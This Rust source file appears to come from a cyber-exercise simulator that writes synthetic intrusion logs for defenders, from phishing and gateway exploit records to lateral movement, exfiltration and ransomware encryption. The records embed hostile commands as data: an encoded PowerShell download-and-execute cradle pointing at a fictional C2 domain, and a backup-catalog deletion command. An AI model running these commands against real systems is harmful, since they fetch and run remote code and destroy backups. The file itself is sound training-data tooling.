//! What the intruder leaves in the logs, from the simulation's own events: the phishing mail
//! and the macro's child process where a host was phished, the exploit's requests and the login
//! on a gateway, the remote logon from a held host where the crew moved, the commands of each
//! later stage on the host it works from, the shadow copies deleted and the files renamed where
//! it encrypted. Each record carries the campaign's indicators as the STIX bundle names them.
//! Only what happened is written: no event, no record.

use std::collections::BTreeMap;
use std::ops::Range;

use crate::scenario::ids::{CampaignIx, HostIx, OrgIx, TechniqueIx};
use crate::scenario::indicators::{Indicator, c2_domain, fictional_indicator, tool_hash};
use crate::scenario::{Effect, HostKind, Tactic};
use crate::sim::events::{SimEvent, Stamped};

use super::ecs::{
    Addresses, Attachment, AttachmentFile, Email, Endpoint, Event, File, Flow, Group, Hash,
    Network, Parent, Process, Record, Related, Threat, Url, User,
};
use super::estate::{Estate, Stream};

/// A record the intruder's activity left, with its moment: (tick, second, record).
pub type Trace = (u64, u64, Record);

/// The intruder's records on the hosts `seen` (by host index: the ticks each is seen), in
/// event order; with `truth`,
/// each says which campaign and technique made it (`threat.*`), for the facilitator.
pub fn traces(estate: &Estate, events: &[Stamped], seen: &[Range<u64>], truth: bool) -> Vec<Trace> {
    let mut held: BTreeMap<(CampaignIx, OrgIx), Vec<HostIx>> = BTreeMap::new();
    let mut out = Vec::new();
    for (n, e) in events.iter().enumerate() {
        let mut at = Writer {
            estate,
            seen,
            truth,
            tick: e.tick,
            serial: n as u64,
            k: 0,
            out: &mut out,
        };
        match e.event {
            SimEvent::HostCompromised {
                campaign,
                org,
                host,
                technique,
            } => {
                let from = held.get(&(campaign, org)).and_then(|h| h.last().copied());
                at.compromised(campaign, host, technique, from);
                held.entry((campaign, org)).or_default().push(host);
            }
            SimEvent::AccessFailed {
                campaign,
                host,
                technique,
                ..
            } => at.attempt(campaign, host, technique, false),
            SimEvent::AccessBlocked {
                campaign,
                host,
                technique,
                ..
            } => at.attempt(campaign, host, technique, true),
            SimEvent::StageCompleted {
                campaign,
                org,
                technique,
            } => {
                if let Some(&host) = held.get(&(campaign, org)).and_then(|h| h.first()) {
                    at.stage(campaign, host, technique);
                }
            }
            SimEvent::HostsEncrypted {
                campaign,
                org,
                hosts,
                ..
            } => {
                let on: Vec<HostIx> = (held.get(&(campaign, org)).into_iter().flatten())
                    .take(hosts as usize)
                    .copied()
                    .collect();
                for host in on {
                    at.encrypted(campaign, host);
                }
            }
            _ => {}
        }
    }
    out
}

/// Where a record goes: the host, the second of the event's minute, and the campaign and
/// technique that made it.
#[derive(Clone, Copy)]
struct On(HostIx, u64, CampaignIx, TechniqueIx);

/// Writes the records of one event.
struct Writer<'a, 'p> {
    estate: &'a Estate<'p>,
    /// The ticks each host is seen.
    seen: &'a [Range<u64>],
    truth: bool,
    tick: u64,
    serial: u64,
    k: u64,
    out: &'a mut Vec<Trace>,
}

impl Writer<'_, '_> {
    fn draw(&mut self, n: u64) -> u64 {
        self.k += 1;
        (self.estate.key).below(n, Stream::Pick, self.serial, self.tick, self.k)
    }

    fn campaign_id(&self, campaign: CampaignIx) -> &str {
        &self.estate.plan.scenario.campaigns[campaign.ix()].id
    }

    fn indicator(&self, campaign: CampaignIx, technique: TechniqueIx) -> Indicator {
        let t = &self.estate.plan.techniques[technique];
        fictional_indicator(self.campaign_id(campaign), &t.id, t.effect, t.tactic)
    }

    /// The campaign's command-and-control name, as its C2 techniques' indicators give it.
    fn c2(&self, campaign: CampaignIx) -> String {
        c2_domain(self.campaign_id(campaign))
    }

    /// The campaign's tool hash (its foothold payload's).
    fn tool(&self, campaign: CampaignIx, technique: TechniqueIx) -> String {
        match self.indicator(campaign, technique) {
            Indicator::Payload { sha256, .. } => sha256,
            _ => tool_hash(self.campaign_id(campaign)),
        }
    }

    /// A record on `host` if it is seen, `second` seconds into the event's minute.
    fn put(&mut self, On(host, second, campaign, technique): On, mut r: Record) {
        if !self
            .seen
            .get(host as usize)
            .is_some_and(|s| s.contains(&self.tick))
        {
            return;
        }
        r.host = self.estate.host(host);
        if !r.related.hosts.contains(&r.host.name) {
            r.related.hosts.push(r.host.name.clone());
        }
        if self.truth {
            let t = &self.estate.plan.techniques[technique];
            r.threat = Some(Threat {
                technique: super::ecs::Technique {
                    id: vec![t.id.clone()],
                    name: vec![t.name.clone()],
                },
                tactic: super::ecs::Tactic {
                    name: vec![tactic_name(t.tactic)],
                },
                group: Group {
                    name: self.campaign_id(campaign).to_string(),
                },
            });
        }
        self.out.push((self.tick, second, r));
    }

    fn user(&self, host: HostIx) -> User {
        User {
            name: self.estate.user(host),
            domain: self.estate.domain(self.estate.org_of(host)),
        }
    }

    /// A process the intruder started on `host`.
    fn process(&mut self, on: On, (name, command, parent): (&str, String, &str)) {
        let On(host, second, c, t) = on;
        let user = self.user(host);
        let pid = 1000 + self.draw(60_000) as u32;
        let ppid = 1000 + self.draw(60_000) as u32;
        let executable = if name.contains('\\') {
            name.to_string()
        } else {
            format!("C:\\Windows\\System32\\{name}")
        };
        let short = executable.rsplit('\\').next().unwrap_or(name).to_string();
        self.put(
            On(host, second, c, t),
            Record {
                message: format!("Process Create: {short}"),
                event: Event::endpoint(&["process"], &["start"], "process-started"),
                process: Some(Process {
                    pid,
                    name: short,
                    executable,
                    command_line: command,
                    parent: Some(Parent {
                        pid: ppid,
                        name: parent.into(),
                    }),
                    hash: None,
                }),
                related: Related {
                    user: vec![user.name.clone()],
                    ..Related::default()
                },
                user: Some(user),
                ..Record::default()
            },
        );
    }

    /// A connection from `host` to `to` (an address) on `port`, `bytes` sent.
    fn connection(&mut self, on: On, to: String, port: u16, bytes: u64, domain: Option<String>) {
        let from_port = 49152 + self.draw(16000) as u16;
        let flow = Flow {
            from: self.estate.ip(on.0),
            from_port,
            to,
            port,
            bytes,
            domain,
        };
        self.put(on, Record::connection(flow));
    }

    /// A name looked up from `host`, and the address it resolved to.
    fn lookup(&mut self, on: On, name: &str) -> String {
        let port = 49152 + self.draw(16000) as u16;
        let answer = format!("198.51.100.{}", 1 + self.draw(254));
        let ip = self.estate.ip(on.0);
        self.put(on, Record::lookup(&ip, port, name, &answer));
        answer
    }

    /// A logon on `host` by `user` from `from`, succeeded or not.
    fn logon(&mut self, on: On, user: &str, from: String, ok: bool) {
        let port = 49152 + self.draw(16000) as u16;
        let gateway = self.estate.kind(on.0) == HostKind::EdgeDevice;
        let user = User {
            name: user.into(),
            domain: self.estate.domain(self.estate.org_of(on.0)),
        };
        self.put(on, Record::logon(user, &from, port, ok, gateway));
    }

    /// A file written on `host`.
    fn file(&mut self, on: On, path: String, sha256: Option<String>) {
        let On(host, second, c, t) = on;
        let name = path.rsplit('\\').next().unwrap_or(&path).to_string();
        let extension = name
            .rsplit_once('.')
            .map_or(String::new(), |(_, e)| e.to_string());
        self.put(
            On(host, second, c, t),
            Record {
                message: format!("File created: {path}"),
                event: Event::endpoint(&["file"], &["creation"], "file-created"),
                file: Some(File {
                    path,
                    name,
                    extension,
                    hash: sha256.map(|sha256| Hash { sha256 }),
                }),
                ..Record::default()
            },
        );
    }

    /// The mail that carried a phish to `host`'s user.
    fn mail(&mut self, on: On, delivered: bool) {
        let On(host, second, c, t) = on;
        let sender = match self.indicator(c, t) {
            Indicator::Sender(s) => s,
            _ => format!("accounts@{}-invoices.example", self.campaign_id(c)),
        };
        let to = format!(
            "{}@{}.example",
            self.estate.user(host),
            self.estate.plan.scenario.organisations[self.estate.org_of(host).ix()].id
        );
        let subject = &self.estate.plan.scenario.campaigns[c.ix()].name;
        self.put(
            On(host, second, c, t),
            Record {
                message: format!(
                    "Mail {} to {to} from {sender}",
                    if delivered {
                        "delivered"
                    } else {
                        "quarantined"
                    }
                ),
                event: Event {
                    kind: "event",
                    category: vec!["email"],
                    kind_of: vec![if delivered { "info" } else { "denied" }],
                    action: if delivered {
                        "mail-delivered"
                    } else {
                        "mail-quarantined"
                    },
                    outcome: Some(if delivered { "success" } else { "failure" }),
                    dataset: "tidewatch.mail",
                    module: "tidewatch",
                },
                email: Some(Email {
                    from: Addresses {
                        address: vec![sender.clone()],
                    },
                    to: Addresses { address: vec![to] },
                    subject: subject.clone(),
                    attachments: vec![Attachment {
                        file: AttachmentFile {
                            name: "Budget Circular No. 4 - revised ceilings.docm".into(),
                            extension: "docm".into(),
                        },
                    }],
                }),
                ..Record::default()
            },
        );
    }

    /// A host taken: how it was taken, as the technique's records show it.
    fn compromised(&mut self, c: CampaignIx, host: HostIx, t: TechniqueIx, from: Option<HostIx>) {
        let technique = &self.estate.plan.techniques[t];
        let (id, effect) = (technique.id.clone(), technique.effect);
        let s = self.draw(20);
        match effect {
            Effect::Phish => {
                self.mail(On(host, s, c, t), true);
                let c2 = self.c2(c);
                self.process(
                    On(host, s + 20, c, t),
                    (
                        "WindowsPowerShell\\v1.0\\powershell.exe",
                        format!("powershell.exe -nop -w hidden -enc {}", encoded(&c2)),
                        "WINWORD.EXE",
                    ),
                );
                let ip = self.lookup(On(host, s + 22, c, t), &c2);
                self.connection(On(host, s + 23, c, t), ip, 443, 4_000, Some(c2));
            }
            Effect::ExploitPublicFacing | Effect::ValidAccounts | Effect::TrustedRelationship => {
                let from_ip = match self.indicator(c, t) {
                    Indicator::Address(a) => a,
                    _ => format!("203.0.113.{}", 1 + self.draw(254)),
                };
                if effect == Effect::ExploitPublicFacing {
                    self.request(On(host, s, c, t), from_ip.clone());
                }
                if id.starts_with("T1110") {
                    for k in 0..12 {
                        self.logon(On(host, s + k * 3, c, t), "admin", from_ip.clone(), false);
                    }
                }
                let user = match effect {
                    Effect::TrustedRelationship => "msp-support".to_string(),
                    _ => format!("adm-{}", self.estate.user(host)),
                };
                self.logon(On(host, s + 40, c, t), &user, from_ip, true);
            }
            Effect::LateralMovement => {
                let from_ip = match from {
                    Some(h) => self.estate.ip(h),
                    None => format!("10.0.0.{}", 2 + self.draw(200)),
                };
                let port = match id.as_str() {
                    "T1021.001" => 3389,
                    "T1021.004" => 22,
                    "T1021.006" => 5985,
                    _ => 445,
                };
                self.logon(
                    On(host, s, c, t),
                    &format!("adm-{}", self.estate.user(host)),
                    from_ip,
                    true,
                );
                let tool = self.tool(c, t);
                let dropped = format!("C:\\Windows\\Temp\\{}.exe", &tool[..8]);
                self.file(On(host, s + 5, c, t), dropped.clone(), Some(tool));
                let parent = if port == 445 {
                    "services.exe"
                } else {
                    "explorer.exe"
                };
                self.process(On(host, s + 8, c, t), (&dropped, dropped.clone(), parent));
                let c2 = self.c2(c);
                let ip = self.lookup(On(host, s + 10, c, t), &c2);
                self.connection(On(host, s + 11, c, t), ip, 443, 3_000, Some(c2));
            }
            _ => self.stage(c, host, t),
        }
    }

    /// An exploit's request to a gateway: the path the appliance's flaw answers on.
    fn request(&mut self, on: On, from: String) {
        let On(host, second, c, t) = on;
        let ephemeral = 49152 + self.draw(16000) as u16;
        let ip = self.estate.ip(host);
        self.put(
            On(host, second, c, t),
            Record {
                message: format!("HTTP POST /remote/logincheck from {from}"),
                event: Event {
                    kind: "event",
                    category: vec!["web", "network"],
                    kind_of: vec!["access", "connection"],
                    action: "http-request",
                    outcome: Some("success"),
                    dataset: "tidewatch.vpn",
                    module: "tidewatch",
                },
                source: Some(Endpoint {
                    ip: from.clone(),
                    port: ephemeral,
                    ..Endpoint::default()
                }),
                destination: Some(Endpoint {
                    ip: ip.clone(),
                    port: 443,
                    ..Endpoint::default()
                }),
                network: Some(Network {
                    transport: "tcp",
                    protocol: "http",
                    direction: "ingress",
                }),
                url: Some(Url {
                    path: "/remote/logincheck".into(),
                }),
                related: Related {
                    ip: vec![from, ip],
                    ..Related::default()
                },
                ..Record::default()
            },
        );
    }

    /// An attempt that failed (the mail delivered but never opened, the exploit or the
    /// password refused) or that a filter blocked (the mail quarantined).
    fn attempt(&mut self, c: CampaignIx, host: HostIx, t: TechniqueIx, blocked: bool) {
        let effect = self.estate.plan.techniques[t].effect;
        let s = self.draw(50);
        match effect {
            Effect::Phish => self.mail(On(host, s, c, t), !blocked),
            Effect::ExploitPublicFacing | Effect::ValidAccounts | Effect::TrustedRelationship => {
                let from = match self.indicator(c, t) {
                    Indicator::Address(a) => a,
                    _ => format!("203.0.113.{}", 1 + self.draw(254)),
                };
                self.logon(On(host, s, c, t), "admin", from, false);
            }
            _ => {}
        }
    }

    /// A later stage, worked from `host`: its commands, or what it sent out.
    fn stage(&mut self, c: CampaignIx, host: HostIx, t: TechniqueIx) {
        let technique = &self.estate.plan.techniques[t];
        let (id, effect) = (technique.id.clone(), technique.effect);
        let s = self.draw(50);
        if effect == Effect::Exfiltrate {
            let to = match self.indicator(c, t) {
                Indicator::Address(a) => a,
                _ => format!("192.0.2.{}", 1 + self.draw(254)),
            };
            let domain = (id == "T1567.002").then(|| "files.cloud-share.example".to_string());
            for k in 0..4 {
                let bytes = 200_000_000 + self.draw(400_000_000);
                self.connection(
                    On(host, s + k * 2, c, t),
                    to.clone(),
                    443,
                    bytes,
                    domain.clone(),
                );
            }
            return;
        }
        // A flood comes from outside: nothing on the organisation's hosts records it.
        if effect == Effect::Ddos {
            return;
        }
        // Command and control over DNS: TXT questions for long encoded names under the
        // crew's domain, the data in the labels.
        if id == "T1071.004" {
            let c2 = self.c2(c);
            let ip = self.estate.ip(host);
            for k in 0..6 {
                let label = (self.estate.key).u64(Stream::Pick, self.serial, self.tick, 1_000 + k);
                let name = format!("{label:016x}{:08x}.{c2}", label >> 32);
                let port = 49152 + self.draw(16000) as u16;
                let mut r = Record::lookup(&ip, port, &name, "198.51.100.53");
                if let Some(dns) = r.dns.as_mut() {
                    dns.question.kind = "TXT";
                }
                self.put(On(host, s + k, c, t), r);
            }
            return;
        }
        // Tools fetched from the crew's server are a command line (certutil); the rest of
        // command and control is a beacon: a lookup and a small TLS connection.
        if technique.tactic == Tactic::CommandAndControl && id != "T1105" {
            let c2 = self.c2(c);
            let ip = self.lookup(On(host, s, c, t), &c2);
            self.connection(On(host, s + 1, c, t), ip, 443, 2_000, Some(c2));
            return;
        }
        let (program, command) = command_of(&self.estate.plan.techniques[t], &self.c2(c));
        let parent = if program.contains("powershell") {
            "cmd.exe"
        } else {
            "powershell.exe"
        };
        self.process(On(host, s, c, t), (&program, command, parent));
        if effect == Effect::Encrypt || id == "T1490" {
            self.process(
                On(host, s + 2, c, t),
                (
                    "wbadmin.exe",
                    "wbadmin delete catalog -quiet".into(),
                    "cmd.exe",
                ),
            );
        }
    }

    /// A host encrypted: the payload started, the files renamed, the note left.
    fn encrypted(&mut self, c: CampaignIx, host: HostIx) {
        let Some(t) = (self.estate.plan.campaigns[c.ix()].stages.iter())
            .map(|s| s.technique)
            .find(|t| self.estate.plan.techniques[*t].effect == Effect::Encrypt)
        else {
            return;
        };
        let (sha256, note) = match self.indicator(c, t) {
            Indicator::Payload { sha256, note } => {
                (sha256, note.unwrap_or_else(|| "README.txt".into()))
            }
            _ => return,
        };
        let s = self.draw(30);
        let payload = format!("C:\\ProgramData\\{}.exe", &sha256[..10]);
        self.file(On(host, s, c, t), payload.clone(), Some(sha256));
        self.process(
            On(host, s + 1, c, t),
            (
                &payload,
                format!("{payload} -path C:\\ -threads 8"),
                "svchost.exe",
            ),
        );
        let extension = self.campaign_id(c).to_lowercase();
        for k in 0..3 {
            let file = ["Budget 2026.xlsx", "Payroll March.xlsx", "Minutes.docx"][k as usize];
            self.file(
                On(host, s + 5 + k, c, t),
                format!(
                    "C:\\Users\\{}\\Documents\\{file}.{extension}",
                    self.estate.user(host)
                ),
                None,
            );
        }
        self.file(
            On(host, s + 9, c, t),
            format!("C:\\Users\\Public\\Desktop\\{note}"),
            None,
        );
    }
}

/// The program a stage starts and its command line: the catalog's trace for the technique,
/// else a batch file named for it.
fn command_of(technique: &crate::scenario::Technique, c2: &str) -> (String, String) {
    match &technique.trace {
        Some(t) => (t.program.clone(), t.command.replace("{c2}", c2)),
        None => {
            let script =
                (technique.name.to_lowercase()).replace(|c: char| !c.is_ascii_alphanumeric(), "");
            (
                "cmd.exe".into(),
                format!("cmd.exe /c C:\\ProgramData\\{script}.bat"),
            )
        }
    }
}

/// A PowerShell `-enc` argument: the command in UTF-16LE base64, as attackers pass it.
fn encoded(c2: &str) -> String {
    let command = format!("IEX (New-Object Net.WebClient).DownloadString('https://{c2}/s')");
    let bytes: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk.iter().fold(0u32, |n, b| n << 8 | *b as u32) << (8 * (3 - chunk.len()));
        for k in 0..4 {
            if k <= chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * k) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// ATT&CK's name for a tactic, as ECS's `threat.tactic.name` takes it.
fn tactic_name(tactic: Tactic) -> &'static str {
    match tactic {
        Tactic::InitialAccess => "Initial Access",
        Tactic::Execution => "Execution",
        Tactic::Persistence => "Persistence",
        Tactic::PrivilegeEscalation => "Privilege Escalation",
        Tactic::DefenseEvasion => "Defense Evasion",
        Tactic::CredentialAccess => "Credential Access",
        Tactic::Discovery => "Discovery",
        Tactic::LateralMovement => "Lateral Movement",
        Tactic::Collection => "Collection",
        Tactic::CommandAndControl => "Command and Control",
        Tactic::Exfiltration => "Exfiltration",
        Tactic::Impact => "Impact",
    }
}
